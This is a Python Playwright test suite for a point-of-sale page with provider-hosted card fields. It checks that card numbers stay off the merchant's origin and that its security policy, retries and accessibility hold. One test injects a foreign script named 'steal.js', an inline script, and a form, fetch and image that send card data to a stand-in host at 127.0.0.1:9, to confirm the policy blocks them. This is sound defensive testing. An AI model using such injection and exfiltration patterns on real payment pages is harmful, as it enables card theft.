"""Keyed cards: what is typed goes to the provider and nowhere else."""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request, Route, expect

from control_plane.accounts.permissions import Role
from tests.support.browser import NewContext
from tests.support.play_account import DECLINED, VISA, PlayAccount
from tests.support.waiting import eventually
from tests.web.live_site import LiveSite
from tests.web.pay_site import PaySite, fields_of, open_account, type_card

CVC = "739"


@pytest.fixture
def pay(site: LiveSite, sandbox: PlayAccount) -> PaySite:
    return open_account(site, sandbox)


def begin(page: Page, digits: str = "4500") -> None:
    """An amount, and the provider's fields."""
    expect(page.locator("#amount")).to_be_focused()
    page.keyboard.type(digits)
    page.keyboard.press("Alt+2")
    expect(page.locator("card-fields[data-ready]")).to_be_visible()


def everything_kept(page: Page) -> str:
    """All that this page and its origin keep in the browser."""
    kept = page.evaluate(
        """async () => JSON.stringify({
            html: document.documentElement.outerHTML,
            values: [...document.querySelectorAll('input, textarea, select')].map((field) => field.value),
            local: {...localStorage}, session: {...sessionStorage}, cookie: document.cookie,
            databases: await indexedDB.databases(), caches: await caches.keys(),
            state: history.state, address: location.href,
        })"""
    )
    assert isinstance(kept, str)
    return kept


def test_a_card_is_charged_by_keys_alone(pay: PaySite, context: BrowserContext) -> None:
    page = pay.till(context)
    begin(page)
    # The provider's fields take the focus when they come; everything from here on is the Tab key.
    expect(page.locator("card-fields iframe")).to_be_focused()
    number = fields_of(page).locator("[name=number]")
    expect(number).to_be_focused()
    page.keyboard.type(VISA)
    page.keyboard.press("Tab")
    page.keyboard.type("1234")
    page.keyboard.press("Tab")
    page.keyboard.type(CVC)
    page.keyboard.press("Tab")
    page.keyboard.type("United S")
    page.keyboard.press("Tab")
    page.keyboard.type("10001")
    page.keyboard.press("Tab")
    expect(page.locator("#holder")).to_be_focused()
    page.keyboard.type("Ada Lovelace")

    page.keyboard.press("Control+Enter")

    expect(page.locator(".outcome h1")).to_have_text("Paid")
    expect(page.locator(".outcome .sum")).to_have_text("€45.00")
    expect(page.locator(".outcome")).to_contain_text("Visa •••• 4242")
    assert [charge["amount"] for charge in pay.sandbox.taken()] == [45_00]
    page.keyboard.press("Enter")
    expect(page.locator("#amount")).to_be_focused()


@pytest.mark.parametrize(("number", "ends_as"), [(VISA, "Paid"), (DECLINED, "Declined")])
def test_no_card_number_and_no_code_reaches_our_origin_or_stays_in_the_browser(
    pay: PaySite, context: BrowserContext, number: str, ends_as: str
) -> None:
    requests: list[Request] = []

    def note(request: Request) -> None:
        requests.append(request)

    context.on("request", note)
    page = pay.till(context)
    begin(page, "1700")
    type_card(page, number, cvc=CVC)

    page.keyboard.press("Control+Enter")
    expect(page.locator(".outcome h1")).to_have_text(ends_as)

    ours = [one for one in requests if one.url.startswith(pay.address)]
    theirs = [one for one in requests if one.url.startswith(pay.sandbox.url)]
    sent = [f"{one.url} {one.post_data or ''} {one.all_headers()}" for one in ours]
    secrets = (number, " ".join(re.findall("....", number)), number[:12], CVC)
    posted = [one for one in ours if one.url.endswith("/pos/payments")]
    assert len(posted) == 1
    assert "ctoken_" in (posted[0].post_data or "")
    assert f"last4={number[-4:]}" in (posted[0].post_data or "")
    assert [text for text in sent for secret in secrets[:3] if secret in text] == []
    assert not re.search(rf"(?<![0-9a-z]){CVC}(?![0-9a-z])", posted[0].post_data or "")
    kept = everything_kept(page)
    assert [secret for secret in secrets[:3] if secret in kept] == []
    # The test would see it: the provider's own origin did get the number.
    assert any(number in (one.post_data or "") for one in theirs)
    known = (pay.address, pay.sandbox.url, "data:")
    assert [one.url for one in requests if not one.url.startswith(known)] == []


def test_what_is_typed_is_out_of_reach_of_our_page(pay: PaySite, context: BrowserContext) -> None:
    page = pay.till(context)
    begin(page)
    type_card(page, cvc=CVC)

    reached = page.evaluate(
        "() => { try { return document.querySelector('card-fields iframe').contentDocument?.body.innerHTML ?? null; }"
        " catch (refused) { return refused.name; } }"
    )

    assert reached is None
    assert VISA not in everything_kept(page)


def test_a_page_with_card_fields_lets_in_the_provider_and_nobody_else(
    pay: PaySite, browser: Browser, new_context: NewContext
) -> None:
    # Its own context: what the policy stops here is what is wanted.
    context = browser.new_context()
    pay.site.sign_in(context, Role.CASHIER)
    page = context.new_page()
    answer = page.goto(f"{pay.address}/pos?new=1")
    assert answer is not None
    policy = dict(
        part.split(" ", 1) for part in answer.headers["content-security-policy"].split("; ")
    )
    page.evaluate(
        """() => { window.stopped = [];
             document.addEventListener('securitypolicyviolation',
                 (event) => window.stopped.push(event.effectiveDirective)); }"""
    )

    page.evaluate(
        """() => {
            const foreign = document.createElement('script');
            foreign.src = 'http://127.0.0.1:9/steal.js';
            const inline = document.createElement('script');
            inline.textContent = 'window.stolen = true';
            const frame = document.createElement('iframe');
            frame.src = 'http://127.0.0.1:9/fields';
            const form = document.createElement('form');
            form.action = 'http://127.0.0.1:9/cards';
            form.method = 'post';
            document.body.append(foreign, inline, frame, form);
            form.submit();
            fetch('http://127.0.0.1:9/cards', {method: 'POST', body: '4242'}).catch(() => {});
            new Image().src = 'http://127.0.0.1:9/pixel';
        }"""
    )

    wanted = {"script-src-elem", "frame-src", "form-action", "connect-src", "img-src"}
    eventually(lambda: set(page.evaluate("window.stopped")) == wanted)
    assert page.evaluate("window.stolen") is None
    assert page.url == f"{pay.address}/pos?new=1"
    assert policy["default-src"] == "'self'"
    assert policy["script-src"] == f"'self' {pay.sandbox.url}"
    assert policy["frame-src"] == pay.sandbox.url
    assert policy["connect-src"] == f"'self' {pay.sandbox.url}"
    assert policy["form-action"] == "'self'"
    context.close()


def test_other_pages_do_not_let_the_provider_in(pay: PaySite, context: BrowserContext) -> None:
    page = pay.till(context)

    answer = page.goto(f"{pay.address}/transactions")

    assert answer is not None
    assert pay.sandbox.url not in answer.headers["content-security-policy"]


@pytest.mark.parametrize("field", ["#note", "#reference", "#holder"])
def test_a_card_number_in_another_field_is_not_sent(
    pay: PaySite, context: BrowserContext, field: str
) -> None:
    page = pay.till(context)
    begin(page)
    page.locator("details.more summary").click()
    page.fill(field, "4242 4242-4242 4242")
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.method))

    page.keyboard.press("Control+Enter")

    expect(page.locator("[data-problem]:visible")).to_contain_text("looks like a card number")
    expect(page.locator(field)).to_be_focused()
    assert "POST" not in sent
    assert pay.payments() == []


def test_a_number_that_slips_past_the_script_is_refused_by_the_server(
    pay: PaySite, context: BrowserContext
) -> None:
    page = pay.till(context)
    body = page.evaluate(
        "() => Object.fromEntries(new FormData(document.querySelector('.till-form')))"
    )
    wish = {**body, "amount": "5.00", "method": "link", "note": VISA}

    answer = page.request.post(
        f"{pay.address}/pos/payments", form=wish, headers={"Accept": "application/json"}
    )

    assert answer.status == 422
    assert list(json.loads(answer.text())["problems"]) == ["note"]
    assert pay.payments() == []


def test_what_is_wrong_with_a_card_is_said_at_its_field_and_nothing_is_sent(
    pay: PaySite, context: BrowserContext
) -> None:
    page = pay.till(context)
    begin(page)
    type_card(page, "4242424242424241")

    page.keyboard.press("Control+Enter")

    expect(page.locator("card-fields [data-why]")).to_contain_text("not right")
    expect(page.locator("#amount")).to_have_value("45.00")
    assert pay.payments() == []


def test_a_lost_answer_is_asked_for_again_and_never_charged_again(
    pay: PaySite, context: BrowserContext
) -> None:
    page = pay.till(context)
    begin(page, "6200")
    type_card(page)
    lost: list[str] = []

    def lose(route: Route) -> None:
        """The request gets there; its answer does not come back."""
        if len(lost) < 2:
            lost.append(route.request.post_data or "")
            route.fetch()
            route.abort()
        else:
            route.continue_()

    page.route("**/pos/payments", lose)
    page.keyboard.press("Control+Enter")

    expect(page.locator(".outcome h1")).to_have_text("Paid")
    assert len(lost) == 2
    assert lost[0] == lost[1]
    assert len(pay.sandbox.taken()) == 1
    assert pay.payments() == ["paid"]


def test_a_double_click_is_one_charge(pay: PaySite, context: BrowserContext) -> None:
    page = pay.till(context)
    begin(page, "7100")
    type_card(page)

    page.locator(".charge").dblclick()

    expect(page.locator(".outcome h1")).to_have_text("Paid")
    assert len(pay.sandbox.taken()) == 1
    assert pay.payments() == ["paid"]


def test_fields_that_cannot_be_loaded_are_loaded_with_the_next_try(
    pay: PaySite, context: BrowserContext
) -> None:
    page = pay.till(context)
    context.route("**/sandbox-stripe.js", lambda route: route.abort())
    page.keyboard.type("800")
    page.keyboard.press("Alt+2")
    expect(page.locator("card-fields [data-why]")).to_contain_text("cannot be loaded")

    context.unroute("**/sandbox-stripe.js")
    page.locator("#amount").focus()
    page.keyboard.press("Control+Enter")
    expect(page.locator("card-fields[data-ready]")).to_be_visible()
    expect(page.locator(".charge")).to_be_enabled()
    type_card(page)
    page.keyboard.press("Control+Enter")

    expect(page.locator(".outcome h1")).to_have_text("Paid")


def test_the_card_is_typed_in_french(pay: PaySite, new_context: NewContext) -> None:
    page = pay.till(new_context(locale="fr-FR"))
    begin(page, "1250")
    expect(fields_of(page).get_by_label("Numéro de carte")).to_be_visible()
    type_card(page)

    page.get_by_role("button", name="Débiter la carte").click()

    expect(page.locator(".outcome h1")).to_have_text("Payé")
    expect(page.locator(".outcome .sum")).to_have_text("12,50\u00a0€")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_about_keyed_cards_and_their_outcomes(
    pay: PaySite,
    new_context: NewContext,
    accessibility_violations: Callable[[Page], list[str]],
    scheme: str,
) -> None:
    page = pay.till(new_context(color_scheme=scheme, reduced_motion="reduce"))
    begin(page, "2300" if scheme == "light" else "2400")
    violations = accessibility_violations(page)
    type_card(page, DECLINED)
    page.keyboard.press("Control+Enter")
    expect(page.locator(".outcome h1")).to_have_text("Declined")
    violations += accessibility_violations(page)
    page.get_by_role("link", name="Type a card").click()
    expect(page.locator("card-fields[data-ready]")).to_be_visible()
    violations += accessibility_violations(page)
    type_card(page)
    page.keyboard.press("Control+Enter")
    expect(page.locator(".outcome h1")).to_have_text("Paid")
    violations += accessibility_violations(page)

    assert violations == []
